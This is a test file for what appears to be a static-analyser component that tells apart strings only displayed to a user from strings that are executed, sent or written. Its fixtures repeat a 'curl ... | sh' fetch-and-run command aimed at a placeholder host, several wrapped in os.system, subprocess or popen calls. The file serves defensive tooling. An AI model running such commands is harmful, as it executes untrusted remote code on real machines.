"""Which string literals a module only shows to a person (snakewarden.analysis.messages)."""

from __future__ import annotations

import ast

import pytest

from snakewarden.analysis.messages import Messages

URL = "https://tools.example.invalid/x.sh"


def shown(code: str, imported: tuple[str, ...] = ()) -> bool:
    tree = ast.parse(code)
    line = next(i for i, text in enumerate(code.splitlines(), 1) if URL in text)
    return Messages(tree, imported).shown_at(line, URL)


@pytest.mark.parametrize(
    "code",
    [
        f"print('install it: curl {URL} | sh')",
        f"import logging\nlogging.getLogger().warning('run curl {URL} | sh')",
        f"import sys\nsys.stderr.write('run: curl {URL} | sh\\n')",
        f"import sys\nsys.exit('run: curl {URL} | sh')",
        f"raise RuntimeError('run: curl {URL} | sh')",
        f"raise SystemExit(f'run: curl {URL} | sh in {{0}}')",
        f"err = ToolMissingError('curl {URL} | sh')\nraise err",
        f"import click\nclick.echo(click.style('curl {URL} | sh', fg='red'))",
        f"print('\\n'.join(['Install:', '  curl {URL} | sh']))",
        f"print('run {{}}'.format('curl {URL} | sh'))",
        f"import argparse\nargparse.ArgumentParser().add_argument('--x', help='e.g. {URL}')",
        f"FIELD = {{'description': 'see {URL}'}}",
        f"_HINT = 'curl {URL} | sh'\ndef f():\n    print('Install with ' + _HINT)\n"
        "def g():\n    raise OSError(_HINT)",
    ],
)
def test_text_only_shown_to_a_person(code: str) -> None:
    assert shown(code)


@pytest.mark.parametrize(
    "code",
    [
        f"import os\nos.system('curl {URL} | sh')",
        f"import subprocess\nsubprocess.run(['sh', '-c', 'curl {URL} | sh'])",
        f"CMD = 'curl {URL} | sh'\nprint(CMD)\nimport os\nos.system(CMD)",
        f"CMD = 'curl {URL} | sh'\nprint(CMD)",  # shown here, but another module imports it
        f"print(__import__('os').popen('curl {URL} | sh').read())",
        f"open('/tmp/run.sh', 'w').write('curl {URL} | sh')",
        f"UNUSED = 'curl {URL} | sh'",
        f"x = ['curl {URL} | sh']\nimport subprocess\nsubprocess.run(x)",
        f"import requests\nrequests.post('{URL}', data='x')",
    ],
)
def test_text_that_is_run_sent_or_written_is_not_a_message(code: str) -> None:
    imported = ("CMD",) if code.endswith("print(CMD)") else ()
    assert not shown(code, imported)


def test_a_name_that_refers_to_itself_is_not_followed_forever() -> None:
    code = f"A = 'curl {URL} | sh'\nB = A\nA = B\nprint(A)\nimport os\nos.system(B)"
    assert not shown(code)
